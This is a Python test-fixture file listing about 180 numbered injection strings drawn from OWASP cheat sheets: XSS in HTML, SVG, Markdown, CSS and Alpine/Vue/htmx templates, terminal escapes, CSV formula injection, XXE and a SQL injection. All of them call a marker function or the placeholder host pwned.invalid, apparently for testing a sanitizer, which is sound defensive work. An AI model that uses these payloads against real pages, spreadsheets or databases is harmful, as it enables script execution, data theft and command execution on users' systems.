"""Texts that would run a script, or load something, on a page that trusts them.

Each carries its own number, its place in `INJECTIONS`: what runs calls `window.pwned(number)`, what loads asks for
`http://pwned.invalid/number`. In the texts below ¤ is that number, and NAME[[...]] a part that is encoded with it.
Source: OWASP, XSS Filter Evasion Cheat Sheet and CSV Injection; CommonMark 0.31.2, parts 4.5-6.8 on code, links,
images and autolinks; Unicode TR36 on direction; Alpine 3 on its attributes.
"""

# ruff: noqa: E501, RUF001  (texts as they would come)

import base64
import re
from typing import NamedTuple

MARK = "¤"


class Injection(NamedTuple):
    number: int
    name: str
    text: str


_ENCODINGS = {
    "BASE64": lambda text: base64.b64encode(text.encode()).decode(),
    "PERCENT": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "DECIMAL": lambda text: "".join(f"&#{ord(each)};" for each in text),
    "PADDED": lambda text: "".join(f"&#{ord(each):07d}" for each in text),
    "HEX": lambda text: "".join(f"&#x{ord(each):x};" for each in text),
    "UNICODE": lambda text: "".join(f"\\u{ord(each):04x}" for each in text),
    "CSS": lambda text: "".join(f"\\{ord(each):x} " for each in text),
    "WIDE": lambda text: "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in text),
}
_ENCODED = re.compile(rf"({'|'.join(_ENCODINGS)})\[\[(.*?)\]\]", re.DOTALL)


def _written(text: str, number: int) -> str:
    return _ENCODED.sub(lambda found: _ENCODINGS[found[1]](found[2]), text.replace(MARK, str(number)))


_TEXTS = {
    # Scripts
    "script": "<script>window.pwned(¤)</script>",
    "script in capitals": "<SCRIPT>window.pwned(¤)</SCRIPT >",
    "script from elsewhere": "<script src=http://pwned.invalid/¤></script>",
    "script from elsewhere, no scheme": "<script src=//pwned.invalid/¤></script>",
    "module script": "<script type=module>import 'http://pwned.invalid/¤'</script>",
    "script in a script": "<scr<script>ipt>window.pwned(¤)</scr</script>ipt>",
    "script with a slash": "<script/x>window.pwned(¤)</script>",
    "script with a line break": "<script\n>window.pwned(¤)</script\n>",
    "script never closed": "<script>window.pwned(¤)//",
    "script after two signs": "<<script>window.pwned(¤);//<</script>",
    "script with its tag encoded": "&lt;script&gt;window.pwned(¤)&lt;/script&gt;",
    "script encoded twice": "&amp;lt;script&amp;gt;window.pwned(¤)&amp;lt;/script&amp;gt;",
    "script in fullwidth signs": "WIDE[[<script>]]window.pwned(¤)WIDE[[</script>]]",
    "script after the end of a script": "</script><script>window.pwned(¤)</script>",
    "script after the end of a text area": "</textarea><script>window.pwned(¤)</script>",
    "script after the end of a title": "</title><script>window.pwned(¤)</script>",
    "script after the end of a style": "</style><script>window.pwned(¤)</script>",
    "script after the end of code": "</code></pre></figure><script>window.pwned(¤)</script>",
    "script after the end of CDATA": "]]><script>window.pwned(¤)</script>",
    "script after a comment": "--><script>window.pwned(¤)</script>",
    "script in a comment that ends early": "<!--> <script>window.pwned(¤)</script> -->",
    "script in a comment with a bang": "<!-- --!><script>window.pwned(¤)</script>",
    "script in a conditional comment": "<!--[if gte IE 4]><script>window.pwned(¤)</script><![endif]-->",
    "script in a processing instruction": "<?xml ?><script>window.pwned(¤)</script>",
    "script in noscript": '<noscript><p title="</noscript><script>window.pwned(¤)</script>">',
    "script in a template": "<template><script>window.pwned(¤)</script></template>",
    "script out of a JSON string": '"}</script><script>window.pwned(¤)</script>{"',
    "script out of a JavaScript string": "';window.pwned(¤);//\\';window.pwned(¤);//\";window.pwned(¤);//\\\"",
    "script out of a template string": "${window.pwned(¤)}`;window.pwned(¤);`",
    "line separators in a string": "\u2028window.pwned(¤)\u2029//",
    "polyglot": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.pwned(¤) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.pwned(¤)//>\\x3e"
    ),
    # Handlers
    "image with a handler": "<img src=x onerror=window.pwned(¤)>",
    "image with a handler after a slash": "<img/src=x/onerror=window.pwned(¤)>",
    "image with a handler, encoded": '<img src=x onerror="DECIMAL[[window.pwned(¤)]]">',
    "image with a handler, hexadecimal": '<img src=x onerror="HEX[[window.pwned(¤)]]">',
    "image with a handler in escapes": "<img src=x onerror=\"UNICODE[[window]]['UNICODE[[pwned]]'](¤)\">",
    "image with a handler in backticks": "<img src=`x`onerror=window.pwned(¤)>",
    "image with broken quotes": '<img """><script>window.pwned(¤)</script>">',
    "image with a handler never closed": '<img src=x onerror="window.pwned(¤)" ',
    "attribute that is left": '" onmouseover="window.pwned(¤)" autofocus onfocus="window.pwned(¤)" x="',
    "attribute that is left, single quotes": "' autofocus onfocus='window.pwned(¤)' x='",
    "body": "<body onload=window.pwned(¤)>",
    "field with focus": "<input autofocus onfocus=window.pwned(¤)>",
    "select with focus": "<select autofocus onfocus=window.pwned(¤)></select>",
    "details": "<details open ontoggle=window.pwned(¤)><summary>x</summary></details>",
    "video": "<video><source onerror=window.pwned(¤)></video>",
    "audio": "<audio src=x onerror=window.pwned(¤)>",
    "marquee": "<marquee onstart=window.pwned(¤)>x</marquee>",
    "animation": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=window.pwned(¤)>x</b>",
    "custom element": "<x-y tabindex=1 autofocus onfocus=window.pwned(¤)>x</x-y>",
    "popover": "<button popovertarget=x¤>x</button><b popover id=x¤ onbeforetoggle=window.pwned(¤)>x</b>",
    "handler in figures of the page": '<figure class="code" onpointerenter=window.pwned(¤)><pre autofocus>x</pre></figure>',
    # Drawings and formulas
    "svg": "<svg onload=window.pwned(¤)>",
    "svg, closed at once": "<svg/onload=window.pwned(¤)/>",
    "svg with a script": "<svg><script>window.pwned(¤)</script></svg>",
    "svg with an encoded script": "<svg><script>HEX[[window.pwned(¤)]]</script></svg>",
    "svg with an address that is a script": '<svg><a xlink:href="javascript:window.pwned(¤)"><text y=9>x</text></a></svg>',
    "svg that sets an address": "<svg><a><animate attributeName=href values=javascript:window.pwned(¤) /><text>x</text></a></svg>",
    "svg that uses another": "<svg><use href='http://pwned.invalid/¤#x'/></svg>",
    "svg with an image": "<svg><image href='http://pwned.invalid/¤'/></svg>",
    "svg with HTML": "<svg><foreignObject><img src=x onerror=window.pwned(¤)></foreignObject></svg>",
    "svg that mutates": '<svg></p><style><a id="</style><img src=1 onerror=window.pwned(¤)>">',
    "math": "<math><mtext><img src=x onerror=window.pwned(¤)></mtext></math>",
    "math with an address": '<math href="javascript:window.pwned(¤)">x</math>',
    "math that mutates": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned(¤)&gt;">'
    ),
    # Pages in the page
    "frame with a script": "<iframe src=javascript:window.parent.pwned(¤)></iframe>",
    "frame with a page": "<iframe srcdoc='<script>parent.pwned(¤)</script>'></iframe>",
    "frame from elsewhere": "<iframe src=http://pwned.invalid/¤></iframe>",
    "object": "<object data=http://pwned.invalid/¤></object>",
    "embed": "<embed src=http://pwned.invalid/¤>",
    "form to elsewhere": "<form action=http://pwned.invalid/¤><input type=submit id=x></form>",
    "button that is a script": '<form><button formaction="javascript:window.pwned(¤)">x</button></form>',
    "base": "<base href=http://pwned.invalid/¤/><img src=x>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://pwned.invalid/¤'>",
    "link to a style": "<link rel=stylesheet href=http://pwned.invalid/¤>",
    "link fetched ahead": "<link rel=prefetch href=http://pwned.invalid/¤><link rel=preload as=image href=http://pwned.invalid/¤>",
    "image from elsewhere": "<img src=http://pwned.invalid/¤ srcset='http://pwned.invalid/¤ 2x'>",
    "picture from elsewhere": "<picture><source srcset=http://pwned.invalid/¤><img></picture>",
    "video with a poster": "<video poster=http://pwned.invalid/¤></video>",
    "track": "<video src=x><track default src=http://pwned.invalid/¤></video>",
    "background of a table": "<table background=http://pwned.invalid/¤><tr><td>x</td></tr></table>",
    "ping": "<a href=/ ping=http://pwned.invalid/¤ id=x>x</a>",
    "name that hides a function": "<form name=getElementById><a id=pwned name=¤ href=http://pwned.invalid/¤>x</a></form>",
    # Styles
    "style from elsewhere": "<style>@import 'http://pwned.invalid/¤';</style>",
    "style with a background": "<b style=\"background:url('http://pwned.invalid/¤')\">x</b>",
    "style with an escaped background": '<b style="background:CSS[[url]](http://pwned.invalid/¤)">x</b>',
    "style with a font": "<style>@font-face{font-family:x;src:url(http://pwned.invalid/¤)}p{font-family:x}</style>",
    "style with an expression": '<b style="width:expression(window.pwned(¤))">x</b>',
    "style over the page": "<b style='position:fixed;inset:0;background:url(//pwned.invalid/¤)'>x</b>",
    "style in a class": '<b class="dark fixed inset-0" style="content:url(http://pwned.invalid/¤)">x</b>',
    # Addresses in Markdown
    "link that is a script": "[x](javascript:window.pwned(¤))",
    "link that is a script, in capitals": "[x](JaVaScRiPt:window.pwned(¤))",
    "link that is a script, in pointed brackets": "[x](<javascript:window.pwned(¤)>)",
    "link that is a script, with entities": "[x](HEX[[javascript:]]window.pwned(¤))",
    "link that is a script, with named entities": "[x](javascript&colon;window&period;pwned&lpar;¤&rpar;)",
    "link that is a script, with padded entities": "[x](PADDED[[javascript:]]window.pwned(¤))",
    "link that is a script, with a tab": "[x](java&Tab;script:window.pwned(¤))",
    "link that is a script, with line breaks": "[x](java&NewLine;script:window.pwned(¤))",
    "link that is a script, after a control": "[x](&#1;javascript:window.pwned(¤))",
    "link that is a script, after a space": "[x](&#32;javascript:window.pwned(¤))",
    "link that is a script, percent-encoded": "[x](PERCENT[[javascript:window.pwned(¤)]])",
    "link that is a script, escaped": "[x](javascript\\:window.pwned\\(¤\\))",
    "link that is a script, after a host": "[x](javascript://pwned.invalid/%0awindow.pwned(¤))",
    "link that is a script, soft hyphen": "[x](java\u00adscript:window.pwned(¤))",
    "link that is a script, fullwidth": "[x](WIDE[[javascript:]]window.pwned(¤))",
    "link that is a script in Visual Basic": "[x](vbscript:window.pwned(¤))",
    "link that is a page": "[x](data:text/html,<script>window.pwned(¤)</script>)",
    "link that is a page in base64": "[x](data:text/html;base64,BASE64[[<script>window.pwned(¤)</script>]])",
    "link that is a drawing": "[x](data:image/svg+xml;base64,BASE64[[<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned(¤)'/>]])",
    "link that is a file": "[x](file:///etc/passwd?¤) [x](blob:http://pwned.invalid/¤) [x](view-source:http://pwned.invalid/¤)",
    "link without a scheme": "[x](//pwned.invalid/¤) [x](\\\\\\\\pwned.invalid/¤) [x](/\\pwned.invalid/¤) [x](/admin/logout/?¤)",
    "link with a title that is a handler": "[x](http://pwned.invalid/¤ 'a\" onmouseover=\"window.pwned(¤)')",
    "link with an address that is a handler": '[x](http://pwned.invalid/¤"onmouseover="window.pwned(¤))',
    "link with an address that closes the tag": '[x](<http://pwned.invalid/¤"><script>window.pwned(¤)</script>>)',
    "link with a name and password": "[x](http://localhost:8000@pwned.invalid/¤)",
    "link to a look-alike": "[x](http://pwned\u3002invalid/¤) [x](http://раypal.pwned.invalid/¤)",
    "link in a link": "[a [b](javascript:window.pwned(¤)) c](javascript:window.pwned(¤))",
    "link with a script for a label": "[<script>window.pwned(¤)</script>](http://pwned.invalid/¤)",
    "reference that is a script": "[x][¤]\n\n[¤]: javascript:window.pwned(¤)",
    "reference that is a script, on the next line": "[x¤]\n\n[x¤]:\n  <javascript:window.pwned(¤)>\n  'x'",
    "reference that is a script in a quotation": "> [y¤]: data:text/html,<script>window.pwned(¤)</script>\n\n[y¤]",
    "autolink that is a script": "<javascript:window.pwned(¤)>",
    "autolink that is a page": "<data:text/html,window.pwned(¤)>",
    "autolink with a handler": '<http://pwned.invalid/¤"onclick="window.pwned(¤)>',
    "autolink of a mail with a script": "<a@pwned.invalid?subject=<script>window.pwned(¤)</script>>",
    "image in Markdown": "![x](http://pwned.invalid/¤)",
    "image in Markdown without a scheme": "![x](//pwned.invalid/¤)",
    "image in Markdown that is a script": "![x](javascript:window.pwned(¤))",
    "image in Markdown that is a drawing": "![x](data:image/svg+xml;base64,BASE64[[<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned(¤)'/>]])",
    "image in Markdown with a handler for a text": '![x" onerror="window.pwned(¤)](http://pwned.invalid/¤)',
    "image in Markdown with a handler in its address": '![x](http://pwned.invalid/¤"onerror="window.pwned(¤))',
    "image in Markdown with a handler in its title": "![x](http://pwned.invalid/¤ \"x' onerror='window.pwned(¤)\")",
    "image in Markdown in a link": "[![x](http://pwned.invalid/¤)](javascript:window.pwned(¤))",
    "image in Markdown by reference": "![x][z¤]\n\n[z¤]: http://pwned.invalid/¤ '<script>window.pwned(¤)</script>'",
    "image in a heading in a quotation in a list": "- > # ![x](http://pwned.invalid/¤) <img src=http://pwned.invalid/¤>",
    "table of images": "| ![x](http://pwned.invalid/¤) |\n|:-:|\n| <img src=x onerror=window.pwned(¤)> |",
    "HTML block of Markdown": "<div markdown=1>\n\n<script>\nwindow.pwned(¤)\n</script>\n\n</div>",
    # Code
    "fence with quotes in its language": '```"onmouseover="window.pwned(¤)"x="\nx\n```',
    "fence with a tag in its language": "```<img/src=x/onerror=window.pwned(¤)>\nx\n```",
    "fence with entities in its language": "```&quot;&gt;&lt;script&gt;window.pwned(¤)&lt;/script&gt;\nx\n```",
    "fence that ends its element": "```html\n</code></pre><script>window.pwned(¤)</script>\n```",
    "fence of a script": "```javascript\n</script><script>window.pwned(¤)</script>\n```",
    "fence never closed": "~~~php\n<?php ?><script>window.pwned(¤)</script>",
    "code in a line": "`<img src=x onerror=window.pwned(¤)>` ``</code><script>window.pwned(¤)</script>``",
    "code by indentation": "    <script>window.pwned(¤)</script>",
    # Templates
    "template of the server": "{{ window.pwned(¤) }}{% load static %}{% include 'http://pwned.invalid/¤' %}{# x #}",
    "template of a page": "{{constructor.constructor('window.pwned(¤)')()}} ${window.pwned(¤)} #{window.pwned(¤)} <%= window.pwned(¤) %>",
    "Alpine": '<div x-data="{}" x-init="window.pwned(¤)">x</div>',
    "Alpine, data alone": '<div x-data="window.pwned(¤)">x</div>',
    "Alpine, an event": '<div x-data @mouseenter="window.pwned(¤)" @load.window="window.pwned(¤)">x</div>',
    "Alpine, HTML": "<div x-data x-html=\"'<img src=x onerror=window.pwned(¤)>'\">x</div>",
    "Alpine, bound": '<div x-data><a :href="window.pwned(¤)" x-bind:title="window.pwned(¤)">x</a></div>',
    "Alpine, text": '<p x-data x-text="window.pwned(¤)" x-effect="window.pwned(¤)">x</p>',
    "htmx": '<div hx-get="http://pwned.invalid/¤" hx-trigger="load">x</div>',
    "htmx, an event": '<div hx-on:htmx:load="window.pwned(¤)" data-hx-get="/admin/" data-hx-trigger="load">x</div>',
    "Vue": '<p v-on:click="window.pwned(¤)" v-html="\'<img src=x onerror=window.pwned(¤)>\'">x</p>',
    # Characters
    "NUL in a tag": "<scr\x00ipt>window.pwned(¤)</scr\x00ipt><img src=x on\x00error=window.pwned(¤)>",
    "NUL in an address": "[x](java\x00script:window.pwned(¤))",
    "controls before an attribute": "<img\x0bsrc=x\x0conerror=window.pwned(¤)\x01>",
    "controls in an address": "[x](\x01javascript:window.pwned(¤)) [x](java\x1fscript:window.pwned(¤))",
    "end of a record": "\x1e<script>window.pwned(¤)</script>\x04\x1a",
    "terminal colours": "\x1b[31m<script>window.pwned(¤)</script>\x1b[0m",
    "terminal link": "\x1b]8;;http://pwned.invalid/¤\x1b\\x\x1b]8;;\x1b\\ \x1b]0;<script>window.pwned(¤)</script>\x07",
    "terminal cursor": "passed\x1b[2K\x1b[1G\x08\x08\x08\x7f<img src=http://pwned.invalid/¤>",
    "text turned round": "\u202e>tpircs/<)¤(denwp.wodniw>tpircs<\u202c <script>window.pwned(¤)</script>",
    "code turned round": "`if admin: \u202e\u2066# check\u2069 \u2066` [\u202egnp.x](http://pwned.invalid/¤)",
    "characters without width": "<scr\u200bipt>window.pwned(¤)</scr\u200bipt> [x](java\u200bscript:window.pwned(¤))",
    "letter without case": "<ſcript src=//pwned.invalid/¤></ſcript> <ımg src=x onerror=window.pwned(¤)>",
    "byte order mark": "\ufeff<script>window.pwned(¤)</script>",
    "marks upon marks": "Z" + "\u0300\u0489" * 300 + "<script>window.pwned(¤)</script>",
    "one long word": "<img src=x onerror=window.pwned(¤)>" + "W" * 3000,
    "letters of many bytes": "🏴\U000e0067\U000e0062\u200d<script>window.pwned(¤)</script>" + "👩\u200d💻" * 200,
    # Where a text goes on to
    "formula": '=HYPERLINK("http://pwned.invalid/¤","x")',
    "formula that runs": "=cmd|' /C start http://pwned.invalid/¤'!A0",
    "formula after a sign": '@SUM(1+1)*WEBSERVICE("http://pwned.invalid/¤")',
    "formula after a tab": '\t=IMPORTXML("http://pwned.invalid/¤","//a")',
    "formula that subtracts": "-2+3+cmd|' /C window.pwned(¤)'!A0",
    "header of a mail": "x\r\nBcc: a@pwned.invalid\r\nLocation: http://pwned.invalid/¤\r\n\r\n<script>window.pwned(¤)</script>",
    "line of a calendar": "x\r\nEND:VEVENT\r\nATTACH:http://pwned.invalid/¤\r\n<script>window.pwned(¤)</script>",
    "entity of XML": "<!DOCTYPE x [<!ENTITY y SYSTEM 'http://pwned.invalid/¤'>]><x>&y;</x>",
    "end of XML": "]]></failure><system-out><![CDATA[<script>window.pwned(¤)</script>",
    "part of SQL": "'); UPDATE chat_messages SET message = '<script>window.pwned(¤)</script>'; --",
}

INJECTIONS = [
    Injection(number, name, _written(text, number)) for number, (name, text) in enumerate(_TEXTS.items(), start=1)
]
